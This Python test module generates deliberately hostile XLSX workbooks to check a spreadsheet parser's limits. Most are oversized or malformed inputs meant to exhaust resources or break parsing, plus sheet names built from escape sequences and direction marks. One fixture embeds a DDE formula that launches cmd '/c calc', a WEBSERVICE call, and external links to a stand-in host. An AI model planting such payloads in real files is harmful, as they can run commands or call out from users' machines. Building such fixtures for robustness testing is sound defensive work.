"""XLSX workbooks whose sheets, shared texts or sheet names are hostile."""

from __future__ import annotations

import containers as make
from attack import BROKE, COLUMNS, DAMAGED, MILLION, Attacks, noise
from containers import PROJECTS

ATTACKS = Attacks()
attack, several = ATTACKS.attack, ATTACKS.several

# --- Sheets of XLSX -----------------------------------------------------------------------------------------------


@attack("million-styled-rows.xlsx", "a million rows that are empty, with a style each", heavy=True)
def _million_styled_rows() -> bytes:
    rows = b'<row s="1" customFormat="1"/>' * MILLION
    return make.xlsx(make.sheet_xml(inside=rows, after=noise(400_000)))


@attack("million-styled-cells.xlsx", "a million cells that are empty, with a style each", heavy=True)
def _million_styled_cells() -> bytes:
    rows = (b"<row>" + b'<c s="1"/>' * 5 + b"</row>") * (MILLION // 5)
    return make.xlsx(make.sheet_xml(inside=rows, after=noise(200_000)))


@attack("columns.xlsx", "a header in each of 16,384 columns", refused=COLUMNS)
def _columns() -> bytes:
    return make.xlsx(make.sheet_xml([[*PROJECTS[0], *(f"h{number}" for number in range(16_380))], *PROJECTS[1:]]))


@attack("styled-columns.xlsx", "16,384 columns that are empty, with a style each")
def _styled_columns() -> bytes:
    cells = "".join(f'<c r="{make.letters(index)}4" s="{index % 5}"/>' for index in range(16_384))
    return make.xlsx(make.sheet_xml(inside=f'<row r="4">{cells}</row>'.encode()))


@attack("far-cell.xlsx", "one cell in the last corner of the sheet", refused=COLUMNS)
def _far_cell() -> bytes:
    return make.xlsx(make.sheet_xml(inside=make.FAR_CELL))


@attack(
    "far-cell-denied.xlsx", "a cell in the last corner of a sheet of 1 MB that says that it ends in D3", refused=BROKE
)
def _far_cell_denied() -> bytes:
    beside = noise(1_000_000)
    return make.xlsx(make.sheet_xml(before=b'<dimension ref="A1:D3"/>' + beside, inside=make.FAR_CELL))


@attack("far-cell-late-dimension.xlsx", "the same, said only behind 300 KB of noise", refused=COLUMNS)
def _far_cell_late_dimension() -> bytes:
    beside = noise(300_000)
    return make.xlsx(make.sheet_xml(before=beside + b'<dimension ref="A1:D3"/>', inside=make.FAR_CELL))


@attack("odd-references.xlsx", "references written with blanks and single quotes", refused=COLUMNS)
def _odd_references() -> bytes:
    return make.xlsx(make.sheet_xml(inside=b"<row r = '4'><c\n r = 'ZZZ99999' ><v>1</v></c></row>"))


@attack("no-references.xlsx", "600 cells in a row that do not say where they are", refused=COLUMNS)
def _no_references() -> bytes:
    return make.xlsx(make.sheet_xml(inside=b"<row>" + b"<c><v>1</v></c>" * 600 + b"</row>"))


@attack("many-rows.xlsx", "a cell in row 1,048,576 of column 400", refused="reaches over")
def _many_rows() -> bytes:
    return make.xlsx(make.sheet_xml(inside=b'<row r="1048576"><c r="OJ1048576"><v>1</v></c></row>'))


@attack("tall.xlsx", "a cell in row 1,048,576 of the first column, with nothing between", heavy=True)
def _tall() -> bytes:
    return make.xlsx(make.sheet_xml(inside=b'<row r="1048576"><c r="C1048576"><v>1</v></c></row>'))


@attack("huge-dimension.xlsx", "a sheet of three rows that says that it reaches to the last corner")
def _huge_dimension() -> bytes:
    return make.xlsx(make.sheet_xml(before=b'<dimension ref="A1:XFD1048576"/>'))


@attack("overflowing-dimension.xlsx", "a sheet that says that it reaches to ZZZZZZZZZZ99999999999")
def _overflowing_dimension() -> bytes:
    return make.xlsx(make.sheet_xml(before=b'<dimension ref="A1:ZZZZZZZZZZ99999999999"/>'))


@attack("backward-dimension.xlsx", "a sheet that says that it reaches from D9 to A1")
def _backward_dimension() -> bytes:
    return make.xlsx(make.sheet_xml(before=b'<dimension ref="D9:A1"/>'))


@attack("million-merges.xlsx", "300,000 merged ranges that overlap", heavy=True)
def _million_merges() -> bytes:
    merges = "".join(f'<mergeCell ref="A{number % 99 + 1}:D{number + 2}"/>' for number in range(300_000))
    return make.xlsx(make.sheet_xml(after=f"<mergeCells>{merges}</mergeCells>".encode()))


@attack("huge-merges.xlsx", "merged ranges over the whole sheet, backwards, and beyond the last row")
def _huge_merges() -> bytes:
    references = ("F1:XFD1048576", "D3:C3", "F4294967295:F4294967296")
    merges = "".join(f'<mergeCell ref="{reference}"/>' for reference in references[:2])
    return make.xlsx(make.sheet_xml(after=f"<mergeCells>{merges}</mergeCells>".encode()))


@attack("hidden-columns.xlsx", "200,000 ranges of hidden columns that overlap", heavy=True)
def _hidden_columns() -> bytes:
    columns = b'<col min="5" max="16384" hidden="1"/>' * 200_000
    return make.xlsx(make.sheet_xml(before=b"<cols>" + columns + b"</cols>", after=noise(200_000)))


@attack("many-names.xlsx", "300,000 defined names", refused=DAMAGED, heavy=True)
def _many_names() -> bytes:
    names = "".join(f'<definedName name="n{number}">projects!$A${number}</definedName>' for number in range(300_000))
    return make.xlsx(workbook=make.workbook_xml(["projects"], f"<definedNames>{names}</definedNames>"))


@attack("error-marks.xlsx", "three million marks of error cells that are none", heavy=True)
def _error_marks() -> bytes:
    marks = ' t="e" ' * 1000
    rows = "".join(
        f'<row r="{number}"><c r="F{number}" t="inlineStr"><is><t>{marks}</t></is></c></row>'
        for number in range(4, 3004)
    )
    return make.xlsx(make.sheet_xml(inside=rows.encode(), after=noise(300_000)))


@attack("error-marks-one-tag.xlsx", "300,000 marks of error cells within one tag")
def _error_marks_one_tag() -> bytes:
    marks = "".join(f' t="e" a{number}="1"' for number in range(300_000))
    return make.xlsx(make.sheet_xml(inside=f'<row r="4"><c r="F4"{marks}/></row>'.encode()))


@attack("error-cells.xlsx", "300,000 error cells without a value", heavy=True)
def _error_cells() -> bytes:
    rows = "".join(f'<row r="{row}"><c r="F{row}" t="e"></c></row>' for row in range(4, 300_004))
    return make.xlsx(make.sheet_xml(inside=rows.encode(), after=noise(200_000)))


@attack("links.xlsx", "links to another workbook, to a server and to a program, and a macro sheet's call")
def _links() -> bytes:
    parts = make.xlsx_parts(
        [
            (
                "projects",
                make.sheet_xml(
                    inside=b'<row r="4"><c r="F4"><f>[1]Sheet1!A1</f><v>5</v></c><c r="G4" t="str">'
                    b'<f>cmd|\'/c calc\'!A0</f><v>x</v></c><c r="H4"><f>WEBSERVICE("http://198.51.100.7/")</f></c></row>',
                    after=b'<hyperlinks><hyperlink ref="A1" r:id="rId1"/></hyperlinks>',
                ),
            )
        ]
    )
    target = "http://198.51.100.7/evil.xlsx"
    outside = make.relations({"rId1": ("externalLinkPath", target)}).replace(b"/>", b' TargetMode="External"/>')
    links = f'<externalLink xmlns="{make.MAIN}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'.encode()
    return make.zipped(
        parts
        | {
            "xl/externalLinks/externalLink1.xml": links,
            "xl/externalLinks/_rels/externalLink1.xml.rels": outside,
            "xl/worksheets/_rels/sheet1.xml.rels": outside.replace(b"externalLinkPath", b"hyperlink"),
            "xl/connections.xml": b"<connections><connection refreshOnLoad='1'/></connections>",
        }
    )


@attack("macros.xlsm", "a macro workbook whose macros are garbage")
def _macros() -> bytes:
    parts = make.xlsx_parts([("projects", make.sheet_xml())])
    return make.zipped(parts | {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 2000})


@attack("comments.xlsx", "100,000 comments on one cell")
def _comments() -> bytes:
    comments = '<comment ref="A1" authorId="0"><text><t>x</t></text></comment>' * 100_000
    parts = make.xlsx_parts([("projects", make.sheet_xml())])
    rels = make.relations({"rId1": ("comments", "../comments1.xml")})
    text = f"<comments>{noise(80_000).decode()}<commentList>{comments}</commentList></comments>".encode()
    return make.zipped(parts | {"xl/comments1.xml": text, "xl/worksheets/_rels/sheet1.xml.rels": rels})


# --- Shared texts -------------------------------------------------------------------------------------------------


def _with_strings(strings: bytes, number: str) -> bytes:
    cell = f'<row r="4"><c r="F4" t="s"><v>{number}</v></c></row>'.encode()
    return make.xlsx(make.sheet_xml(inside=cell), strings=strings)


@attack("strings-promised.xlsx", "a promise of 99,999,999,999 shared texts", refused=BROKE)
def _strings_promised() -> bytes:
    return _with_strings(make.strings_xml(["x"], 99_999_999_999), "0")


@attack("strings-missing.xlsx", "a cell that shows shared text number 4,000,000,000 of one", refused=DAMAGED)
def _strings_missing() -> bytes:
    return _with_strings(make.strings_xml(["x"], 1), "4000000000")


@attack("strings-negative.xlsx", "a cell that shows shared text number -1")
def _strings_negative() -> bytes:
    return _with_strings(make.strings_xml(["x"], 1), "-1")


@attack("strings-cut.xlsx", "shared texts whose XML breaks off", refused=DAMAGED)
def _strings_cut() -> bytes:
    return _with_strings(make.strings_xml(["x"] * 50, 50)[:900], "3")


@attack("strings-empty.xlsx", "three million shared texts that are empty", heavy=True)
def _strings_empty() -> bytes:
    return _with_strings(make.strings_xml([""], 1).replace(b"<si><t></t></si>", b"<si/>" * 3 * MILLION), "0")


# --- Names of sheets ----------------------------------------------------------------------------------------------


@attack("same-names.xlsx", "two sheets of one name", refused="has two sheets called")
def _same_names() -> bytes:
    other = make.sheet_xml([PROJECTS[0], ["P03", "另一个", "ORG-2", "relief"]])
    return make.zipped(make.xlsx_parts([("projects", make.sheet_xml()), ("projects", other)]))


@attack("many-sheets.xlsx", "1,001 sheets", refused="has 1,001 sheets, and at most 1,000 are read")
def _many_sheets() -> bytes:
    return make.zipped(make.xlsx_parts([(f"s{number}", b"<worksheet/>") for number in range(1001)]))


@attack("thousand-sheets.xlsx", "1,000 sheets, of which one is a table", heavy=True)
def _thousand_sheets() -> bytes:
    blank = make.sheet_xml([["x"]])
    return make.zipped(make.xlsx_parts([("projects", make.sheet_xml()), *((f"s{n}", blank) for n in range(999))]))


@attack(
    "long-name.xlsx",
    "a sheet with a name of 30,000 characters, and a table that lacks its title",
    refused="whose name has 30,009 characters, and at most 255 are read",
)
def _long_name() -> bytes:
    rows = [[line[0], *line[2:]] for line in PROJECTS]
    return make.zipped(make.xlsx_parts([("projects " + "长" * 30_000, make.sheet_xml(rows))]))


def _with_sheet_name(name: bytes) -> bytes:
    parts = make.xlsx_parts([("NAME", make.sheet_xml([*PROJECTS, [None, "无编号", "ORG-1", "relief"]]))])
    parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(b"NAME", name)
    return make.zipped(parts)


@attack("escapes-in-sheet-name.xlsx", "a sheet named by an escape sequence, which XML forbids", refused=DAMAGED)
def _escapes_in_sheet_name() -> bytes:
    return _with_sheet_name(b"&#x1b;[31mprojects")


@attack(
    "marks-in-sheet-name.xlsx",
    "a sheet named by direction marks and C1 control characters",
    found="\ufffd31mprojects\ufffd\ufffd2J › A4",
)
def _marks_in_sheet_name() -> bytes:
    return _with_sheet_name(b"&#x9b;31mprojects\xe2\x80\xae&#x9b;2J")


@attack("no-sheets.xlsx", "a workbook that lists no sheet", refused="is an empty workbook")
def _no_sheets() -> bytes:
    return make.zipped(make.xlsx_parts([]))
